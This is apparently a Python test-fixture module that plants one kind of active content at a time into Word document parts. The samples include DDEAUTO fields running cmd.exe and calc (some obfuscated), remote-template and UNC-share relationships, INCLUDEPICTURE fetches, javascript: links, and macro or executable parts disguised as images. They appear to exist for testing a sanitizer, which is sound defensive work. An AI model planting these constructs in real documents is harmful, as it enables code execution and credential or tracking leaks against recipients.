"""Active content put into a Word document, one kind at a time: what it would fetch or start."""

from __future__ import annotations

from collections.abc import Callable, Mapping

from docx_export.document.controls import RELATIONS, W

Parts = dict[str, bytes]

HOST = "http://192.0.2.1"  # of no machine (RFC 5737)
UNC = "\\\\192.0.2.1\\del"

BODY, BODY_RELATIONS = "word/document.xml", "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
_R = f'xmlns:r="{RELATIONS}"'
_MAIN = "http://schemas.openxmlformats.org/drawingml/2006"


def run(xml: str) -> str:
    return f"<w:r>{xml}</w:r>"


def complex_field(*instruction: str, shown: str = "x") -> str:
    """A complex field whose instruction stands in so many runs; what starts with "<" is XML."""
    pieces = "".join(
        piece
        if piece.startswith("<")
        else run(f'<w:instrText xml:space="preserve">{piece}</w:instrText>')
        for piece in instruction
    )
    start, middle, end = (
        run(f'<w:fldChar w:fldCharType="{kind}"/>') for kind in ("begin", "separate", "end")
    )
    return f"{start}{pieces}{middle}{run(f'<w:t>{shown}</w:t>')}{end}"


def simple_field(instruction: str) -> str:
    return f'<w:fldSimple w:instr="{instruction}">{run("<w:t>x</w:t>")}</w:fldSimple>'


def picture(attribute: str) -> str:
    """A picture whose bytes are told by an attribute. E.g. `'r:link="rId9"'`."""
    return run(
        '<w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
        'wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><wp:docPr id="901" name="b"/>'
        f'<a:graphic xmlns:a="{_MAIN}/main"><a:graphicData uri="{_MAIN}/picture">'
        f'<pic:pic xmlns:pic="{_MAIN}/picture"><pic:nvPicPr><pic:cNvPr id="901" name="b"/>'
        f"<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {_R} {attribute}/>"
        '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
        '<a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing>"
    )


def with_body(parts: Parts, xml: str) -> Parts:
    """A paragraph more, the first one."""
    at = parts[BODY].index(b"<w:body>") + len(b"<w:body>")
    more = xml if xml.startswith(("<w:p>", "<w:altChunk", "<w:sdt>")) else f"<w:p>{xml}</w:p>"
    return {**parts, BODY: parts[BODY][:at] + more.encode() + parts[BODY][at:]}


def with_relation(
    parts: Parts,
    kind: str,
    target: str,
    *,
    source: str = BODY,
    mode: str = ' TargetMode="External"',
    identity: str = "rIdAktiv",
) -> Parts:
    """A relationship more, of some part."""
    folder, _, name = source.rpartition("/")
    rels = f"{folder}/_rels/{name}.rels"
    empty = f'<Relationships xmlns="{PACKAGE}/relationships"></Relationships>'.encode()
    line = f'<Relationship Id="{identity}" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/>'
    before, _, after = parts.get(rels, empty).rpartition(b"</Relationships>")
    return {**parts, rels: before + line.encode() + b"</Relationships>" + after}


def with_part(parts: Parts, name: str, data: bytes, content_type: str) -> Parts:
    line = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
    types = parts[TYPES].replace(b"</Types>", line.encode())
    return {**parts, name: data, TYPES: types}


def with_setting(parts: Parts, xml: str) -> Parts:
    name = "word/settings.xml"
    settings = parts.get(name) or f'<w:settings xmlns:w="{W}"></w:settings>'.encode()
    before, _, after = settings.rpartition(b"</w:settings>")
    return {**parts, name: before + xml.encode() + b"</w:settings>" + after}


def field(*instruction: str) -> Callable[[Parts], Parts]:
    return lambda parts: with_body(parts, complex_field(*instruction))


def simple(instruction: str) -> Callable[[Parts], Parts]:
    return lambda parts: with_body(parts, simple_field(instruction))


def link(target: str, mode: str = ' TargetMode="External"') -> Callable[[Parts], Parts]:
    xml = f'<w:hyperlink {_R} r:id="rIdAktiv">{run("<w:t>Hit</w:t>")}</w:hyperlink>'
    return lambda parts: with_body(with_relation(parts, "hyperlink", target, mode=mode), xml)


def related(kind: str, target: str, xml: str = "", source: str = BODY) -> Callable[[Parts], Parts]:
    def change(parts: Parts) -> Parts:
        parts = with_relation(parts, kind, target, source=source)
        return with_body(parts, xml) if xml else parts

    return change


def stored(name: str, data: bytes, content_type: str, kind: str) -> Callable[[Parts], Parts]:
    """A part of the file, pointed to by the body where `kind` tells how."""

    def change(parts: Parts) -> Parts:
        parts = with_part(parts, name, data, content_type)
        if not kind:
            return parts
        return with_relation(parts, kind, name.removeprefix("word/"), mode="")

    return change


_DELETED = '<w:del w:id="1" w:author="A"><w:r><w:delInstrText>{}</w:delInstrText></w:r></w:del>'
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
_OFFICE = "application/vnd.openxmlformats-officedocument"

PLANTS: Mapping[str, Callable[[Parts], Parts]] = {
    # fields
    "dde": field(' DDE excel "C:\\\\a.xlsx" A1 '),
    "ddeauto": field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
    "ddeauto in pieces": field(" DD", "EAU", "TO", " cmd "),
    "ddeauto in lower case": field(" ddeauto cmd "),
    "ddeauto in quotes": field(' "DDEAUTO" cmd '),
    "ddeauto after nothing": field(' "" DDEAUTO cmd '),
    "ddeauto simple": simple("DDEAUTO cmd"),
    "ddeauto nested": field(" IF ", complex_field(" DDEAUTO cmd "), " = 1 a b "),
    "ddeauto after the separator": lambda parts: with_body(
        parts,
        run('<w:fldChar w:fldCharType="begin"/>')
        + run("<w:instrText>PAGE</w:instrText>")
        + run('<w:fldChar w:fldCharType="separate"/>')
        + run("<w:instrText> DDEAUTO cmd </w:instrText>")
        + run('<w:fldChar w:fldCharType="end"/>'),
    ),
    "a field without an end": lambda parts: with_body(
        parts, run('<w:fldChar w:fldCharType="begin"/>') + run("<w:instrText>DDE a</w:instrText>")
    ),
    "an instruction without a field": lambda parts: with_body(
        parts, run("<w:instrText>DDEAUTO cmd</w:instrText>")
    ),
    "a name that is computed": field(complex_field(" QUOTE 68 68 69 "), " cmd "),
    "a name that is half computed": field(" DDE", complex_field(" = 1 "), " cmd "),
    "a deleted beginning": field(_DELETED.format("PAGE "), " DDEAUTO cmd "),
    "a deleted middle": field(" PAGE ", _DELETED.format("x"), " DDEAUTO cmd "),
    "includetext": field(f' INCLUDETEXT "{HOST}/a.docx" '),
    "includetext on a share": field(f' INCLUDETEXT "{UNC}\\a.docx" '),
    "includepicture": field(f' INCLUDEPICTURE "{HOST}/a.png" \\d '),
    "includepicture simple": simple(f"INCLUDEPICTURE {HOST}/a.png"),
    "import": field(f' IMPORT "{HOST}/a.png" '),
    "include": field(f' INCLUDE "{HOST}/a.docx" '),
    "link": field(f' LINK Excel.Sheet.12 "{HOST}/a.xlsx" A1 \\a '),
    "embed": field(" EMBED Package "),
    "database": field(' DATABASE \\d "C:\\\\a.mdb" \\s "SELECT 1" '),
    "macrobutton": field(" MACROBUTTON Kor Klicka "),
    "quote": field(" QUOTE 68 68 69 "),
    "autotext": field(" AUTOTEXT Hej "),
    "gotobutton": field(" GOTOBUTTON a b "),
    "referenced document": field(f' RD "{HOST}/a.docx" '),
    "html control": field(" HTMLCONTROL Forms "),
    "print": field(' PRINT "!R! FONT" '),
    # links
    "a link by field": field(' HYPERLINK "javascript:alert(1)" '),
    "a link by field to a file": field(' HYPERLINK "file:///C:/a.exe" \\o "tips" '),
    "a link by field after a switch": field(f' HYPERLINK \\t "_blank" "{UNC}\\\\a" '),
    "a link by field, computed": field(" HYPERLINK ", complex_field(" DOCPROPERTY a ")),
    "javascript": link("javascript:alert(1)"),
    "javascript in capitals": link(" JavaScript:alert(1)"),
    "javascript with a tab": link("java&#9;script:alert(1)"),
    "vbscript": link("vbscript:a"),
    "data": link("data:text/html,a"),
    "a link to a file": link("file:///C:/a.exe"),
    "a link to a share": link(UNC + "\\a.docx"),
    "a link to a share with slashes": link("//192.0.2.1/a.docx"),
    "a link to a place beside": link("../a.docx"),
    "a link of Office": link("ms-word:ofe|u|http://192.0.2.1/a.docx"),
    "a link that says it is inside": link("javascript:alert(1)", mode=""),
    "a link of a shape": lambda parts: with_body(
        parts, run(f'<w:pict><v:shape {_VML} href="file:///C:/a.exe"/></w:pict>')
    ),
    # what is fetched by relationships
    "template": lambda parts: with_setting(
        with_relation(parts, "attachedTemplate", f"{HOST}/a.dotm", source="word/settings.xml"),
        f'<w:attachedTemplate {_R} r:id="rIdAktiv"/>',
    ),
    "template on a share": lambda parts: with_setting(
        with_relation(
            parts, "attachedTemplate", f"file:///{UNC}\\a.dotm", source="word/settings.xml"
        ),
        f'<w:attachedTemplate {_R} r:id="rIdAktiv"/>',
    ),
    "template as a link": lambda parts: with_setting(
        with_relation(parts, "hyperlink", f"{HOST}/a.dotm", source="word/settings.xml"),
        f'<w:attachedTemplate {_R} r:id="rIdAktiv"/>',
    ),
    "picture": related("image", f"{HOST}/a.png", picture('r:link="rIdAktiv"')),
    "picture on a share": related("image", f"{UNC}\\a.png", picture('r:link="rIdAktiv"')),
    "picture as a link": related("hyperlink", f"{HOST}/a.png", picture('r:link="rIdAktiv"')),
    "picture that says it is inside": lambda parts: with_relation(
        parts, "image", f"{HOST}/a.png", mode=""
    ),
    "picture of the older kind": lambda parts: with_body(
        parts, run(f'<w:pict><v:shape {_VML}><v:imagedata src="{HOST}/a"/></v:shape></w:pict>')
    ),
    "picture of the older kind on a share": lambda parts: with_body(
        parts, run(f'<w:pict><v:shape {_VML}><v:imagedata o:href="{UNC}"/></v:shape></w:pict>')
    ),
    "fill of the older kind": lambda parts: with_body(
        parts, run(f'<w:pict><v:shape {_VML}><v:fill src="{HOST}/a"/></v:shape></w:pict>')
    ),
    "relationship twice": lambda parts: with_relation(
        with_relation(parts, "image", "media/a.png", mode=""), "image", f"{HOST}/a.png"
    ),
    "picture of the header": related("image", f"{HOST}/a.png", source="word/header1.xml"),
    "picture of the footer": related("image", f"{HOST}/a.png", source="word/footer1.xml"),
    "picture of the numbering": related("image", f"{HOST}/a.png", source="word/numbering.xml"),
    "picture of the theme": related("image", f"{HOST}/a.png", source="word/theme/theme1.xml"),
    "picture of notes": related("image", f"{HOST}/a.png", source="word/footnotes.xml"),
    "picture of comments": related("image", f"{HOST}/a.png", source="word/comments.xml"),
    "font": related("font", f"{HOST}/a.ttf", source="word/fontTable.xml"),
    "something new": related("nyhet", f"{HOST}/a"),
    "frame": related("frame", f"{HOST}/a", source="word/webSettings.xml"),
    "sub-document": related("subDocument", "a.docx"),
    "data source": lambda parts: with_setting(
        with_relation(parts, "mailMergeSource", f"{HOST}/a", source="word/settings.xml"),
        "<w:mailMerge/>",
    ),
    "linked object": related("oleObject", f"{HOST}/a.xlsx"),
    "style sheet": lambda parts: with_setting(
        with_relation(parts, "transform", f"{HOST}/a.xsl", source="word/settings.xml"),
        f'<w:saveThroughXslt {_R} r:id="rIdAktiv"/>',
    ),
    # what the file brings along
    "altChunk": lambda parts: with_body(
        stored("word/a.html", b"<html/>", "text/html", "aFChunk")(parts),
        f'<w:altChunk {_R} r:id="rIdAktiv"/>',
    ),
    "macros": stored(
        "word/vbaProject.bin", _OLE, "application/vnd.ms-office.vbaProject", "vbaProject"
    ),
    "macros that nothing points to": stored(
        "word/vbaProject.bin", _OLE, "application/vnd.ms-office.vbaProject", ""
    ),
    "macros under another name": stored("word/media/a.png", _OLE, "image/png", "image"),
    "embedded object": stored("word/embeddings/a.bin", _OLE, f"{_OFFICE}.oleObject", "oleObject"),
    "embedded workbook": stored(
        "word/embeddings/a.xlsx", b"PK\3\4", f"{_OFFICE}.spreadsheetml.sheet", "package"
    ),
    "program": stored("word/media/a.gif", b"MZ\x90\0", "image/gif", "image"),
    "ActiveX": stored(
        "word/activeX/a.xml", b"<a/>", "application/vnd.ms-office.activeX+xml", "control"
    ),
    "macro of a form": lambda parts: with_body(
        parts,
        run(
            '<w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="Kor"/></w:ffData>'
            "</w:fldChar>"
        )
        + run('<w:fldChar w:fldCharType="end"/>'),
    ),
    "drawing that is packed": stored("word/media/a.svg", b"\x1f\x8b\b", "image/svg+xml", "image"),
    "drawing in UTF-16": stored(
        "word/media/a.svg",
        "<svg><style>@import 'http://192.0.2.1/a'</style></svg>".encode("utf-16"),
        "image/svg+xml",
        "image",
    ),
    "drawing that fetches": stored(
        "word/media/a.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://192.0.2.1/a"/></svg>',
        "image/svg+xml",
        "image",
    ),
}
"""What is put in -> how, in the parts of a document."""


def plant(parts: Mapping[str, bytes], name: str) -> Parts:
    """The parts of a document with something active in them."""
    return PLANTS[name](dict(parts))
